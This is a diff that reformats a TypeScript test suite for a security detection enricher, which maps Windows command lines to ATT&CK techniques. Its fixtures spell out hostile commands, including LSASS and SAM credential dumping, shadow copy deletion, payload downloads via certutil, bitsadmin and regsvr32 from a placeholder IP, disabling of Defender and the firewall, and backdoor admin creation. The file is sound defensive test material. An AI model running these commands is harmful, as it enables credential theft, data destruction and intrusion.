@@ -6,7 +6,7 @@ import type { Finding } from '../../../core/enrich/enricher.js';
 import { ATTACK_SUCCESSORS } from '../../../core/enrich/knowledge/technique-inference.js';
 import { KNOWN_TOOLS } from '../../../core/enrich/knowledge/windows-binaries.js';
 import { STAGING_FOLDERS } from '../../../core/enrich/knowledge/windows-paths.js';
-import { type Alert, type AlertInput } from '../../../core/spec/alert.js';
+import type { Alert, AlertInput } from '../../../core/spec/alert.js';
 import { ConfigError } from '../../../core/spec/errors.js';
 import { testAlert } from './test-alert.js';
 
@@ -68,24 +68,84 @@ describe('command-line enricher: living off the land', () => {
   const cases: { name: string; commandLine: string; image: string; expected: string[]; minWeight: number }[] = [
     { name: 'shadow copy deletion through cmd', commandLine: 'cmd.exe /c "vssadmin.exe delete shadows /all /quiet"', image: 'C:\\Windows\\System32\\cmd.exe', expected: ['T1490'], minWeight: 2.5 },
     { name: 'wmic shadowcopy delete', commandLine: 'wmic shadowcopy delete /nointeractive', image: 'C:\\Windows\\System32\\wbem\\WMIC.exe', expected: ['T1490', 'T1047'], minWeight: 2.5 },
-    { name: 'LSASS dump with comsvcs', commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full', image: 'C:\\Windows\\System32\\rundll32.exe', expected: ['T1003.001', 'T1218.011'], minWeight: 2.5 },
+    {
+      name: 'LSASS dump with comsvcs',
+      commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full',
+      image: 'C:\\Windows\\System32\\rundll32.exe',
+      expected: ['T1003.001', 'T1218.011'],
+      minWeight: 2.5,
+    },
     { name: 'procdump against lsass', commandLine: 'procdump64.exe -accepteula -ma lsass.exe C:\\temp\\out.dmp', image: 'C:\\Tools\\procdump64.exe', expected: ['T1003.001'], minWeight: 2.5 },
-    { name: 'certutil download', commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe', image: 'C:\\Windows\\System32\\certutil.exe', expected: ['T1105'], minWeight: 2 },
+    {
+      name: 'certutil download',
+      commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe',
+      image: 'C:\\Windows\\System32\\certutil.exe',
+      expected: ['T1105'],
+      minWeight: 2,
+    },
     { name: 'certutil decode', commandLine: 'certutil -decode payload.b64 payload.exe', image: 'C:\\Windows\\System32\\certutil.exe', expected: ['T1140'], minWeight: 1 },
-    { name: 'bitsadmin transfer', commandLine: 'bitsadmin /transfer job /download /priority high http://203.0.113.9/a.exe C:\\Windows\\Temp\\a.exe', image: 'C:\\Windows\\System32\\bitsadmin.exe', expected: ['T1197', 'T1105'], minWeight: 1.5 },
-    { name: 'regsvr32 Squiblydoo', commandLine: 'regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll', image: 'C:\\Windows\\System32\\regsvr32.exe', expected: ['T1218.010', 'T1105'], minWeight: 2.5 },
-    { name: 'mshta inline script', commandLine: 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")', image: 'C:\\Windows\\System32\\mshta.exe', expected: ['T1218.005'], minWeight: 2.5 },
+    {
+      name: 'bitsadmin transfer',
+      commandLine: 'bitsadmin /transfer job /download /priority high http://203.0.113.9/a.exe C:\\Windows\\Temp\\a.exe',
+      image: 'C:\\Windows\\System32\\bitsadmin.exe',
+      expected: ['T1197', 'T1105'],
+      minWeight: 1.5,
+    },
+    {
+      name: 'regsvr32 Squiblydoo',
+      commandLine: 'regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll',
+      image: 'C:\\Windows\\System32\\regsvr32.exe',
+      expected: ['T1218.010', 'T1105'],
+      minWeight: 2.5,
+    },
+    {
+      name: 'mshta inline script',
+      commandLine: 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")',
+      image: 'C:\\Windows\\System32\\mshta.exe',
+      expected: ['T1218.005'],
+      minWeight: 2.5,
+    },
     { name: 'event log clearing', commandLine: 'wevtutil cl Security', image: 'C:\\Windows\\System32\\wevtutil.exe', expected: ['T1070.001', 'T1685.005'], minWeight: 2 },
     { name: 'recovery disabled', commandLine: 'bcdedit /set {default} recoveryenabled No', image: 'C:\\Windows\\System32\\bcdedit.exe', expected: ['T1490'], minWeight: 2.5 },
-    { name: 'scheduled task running PowerShell from a staging folder', commandLine: 'schtasks /create /sc onlogon /tn Updater /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1"', image: 'C:\\Windows\\System32\\schtasks.exe', expected: ['T1053.005'], minWeight: 1.5 },
-    { name: 'service pointing at cmd', commandLine: 'sc create evil binpath= "cmd.exe /c C:\\ProgramData\\x.exe" start= auto', image: 'C:\\Windows\\System32\\sc.exe', expected: ['T1543.003'], minWeight: 1.5 },
+    {
+      name: 'scheduled task running PowerShell from a staging folder',
+      commandLine: 'schtasks /create /sc onlogon /tn Updater /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1"',
+      image: 'C:\\Windows\\System32\\schtasks.exe',
+      expected: ['T1053.005'],
+      minWeight: 1.5,
+    },
+    {
+      name: 'service pointing at cmd',
+      commandLine: 'sc create evil binpath= "cmd.exe /c C:\\ProgramData\\x.exe" start= auto',
+      image: 'C:\\Windows\\System32\\sc.exe',
+      expected: ['T1543.003'],
+      minWeight: 1.5,
+    },
     { name: 'SAM hive saved', commandLine: 'reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save', image: 'C:\\Windows\\System32\\reg.exe', expected: ['T1003.002'], minWeight: 2.5 },
-    { name: 'Run key persistence through reg add', commandLine: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f', image: 'C:\\Windows\\System32\\reg.exe', expected: ['T1547.001', 'T1112'], minWeight: 1 },
-    { name: 'Defender exclusion', commandLine: 'powershell -Command Add-MpPreference -ExclusionPath C:\\Users\\Public', image: POWERSHELL, expected: ['T1562.001', 'T1685', 'T1564.012'], minWeight: 2 },
+    {
+      name: 'Run key persistence through reg add',
+      commandLine: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f',
+      image: 'C:\\Windows\\System32\\reg.exe',
+      expected: ['T1547.001', 'T1112'],
+      minWeight: 1,
+    },
+    {
+      name: 'Defender exclusion',
+      commandLine: 'powershell -Command Add-MpPreference -ExclusionPath C:\\Users\\Public',
+      image: POWERSHELL,
+      expected: ['T1562.001', 'T1685', 'T1564.012'],
+      minWeight: 2,
+    },
     { name: 'firewall off', commandLine: 'netsh advfirewall set allprofiles state off', image: 'C:\\Windows\\System32\\netsh.exe', expected: ['T1562.004', 'T1686.003'], minWeight: 2.5 },
     { name: 'local admin added', commandLine: 'net localgroup administrators backdoor /add', image: 'C:\\Windows\\System32\\net.exe', expected: ['T1098.007'], minWeight: 1.5 },
     { name: 'domain trust discovery', commandLine: 'nltest /domain_trusts /all_trusts', image: 'C:\\Windows\\System32\\nltest.exe', expected: ['T1482'], minWeight: 1 },
-    { name: 'GPP password hunt', commandLine: 'findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml', image: 'C:\\Windows\\System32\\findstr.exe', expected: ['T1552.006'], minWeight: 2 },
+    {
+      name: 'GPP password hunt',
+      commandLine: 'findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml',
+      image: 'C:\\Windows\\System32\\findstr.exe',
+      expected: ['T1552.006'],
+      minWeight: 2,
+    },
     { name: 'Office macro spawning PowerShell', commandLine: 'powershell.exe -c Get-Date', image: POWERSHELL, expected: ['T1204.002'], minWeight: 2 },
   ];
   for (const testCase of cases) {
@@ -112,7 +172,10 @@ describe('command-line enricher: living off the land', () => {
 
 describe('command-line enricher: images, parents and obfuscation', () => {
   it('flags a renamed Windows binary from OriginalFileName', () => {
-    const findings = enricher.enrich(processAlert('C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe -urlcache -f http://203.0.113.9/a a', { image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', originalFileName: 'CertUtil.exe' }), context);
+    const findings = enricher.enrich(
+      processAlert('C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe -urlcache -f http://203.0.113.9/a a', { image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', originalFileName: 'CertUtil.exe' }),
+      context,
+    );
     expect(rule(findings, 'renamed-binary')?.attack).toEqual(['T1036.003']);
     expect(rule(findings, 'certutil-download')).toBeDefined();
   });
@@ -153,7 +216,14 @@ describe('command-line enricher: images, parents and obfuscation', () => {
 
 describe('command-line enricher: calibration and shape', () => {
   it('gives a normal service host no positive weight', () => {
-    const findings = enricher.enrich(processAlert('C:\\Windows\\system32\\svchost.exe -k netsvcs -p', { image: 'C:\\Windows\\System32\\svchost.exe', parentImage: 'C:\\Windows\\System32\\services.exe', originalFileName: 'svchost.exe' }), context);
+    const findings = enricher.enrich(
+      processAlert('C:\\Windows\\system32\\svchost.exe -k netsvcs -p', {
+        image: 'C:\\Windows\\System32\\svchost.exe',
+        parentImage: 'C:\\Windows\\System32\\services.exe',
+        originalFileName: 'svchost.exe',
+      }),
+      context,
+    );
     expect(findings.every((finding) => finding.weight <= 0)).toBe(true);
     expect(findings[0]?.benignReason).toBe('expected_activity');
   });
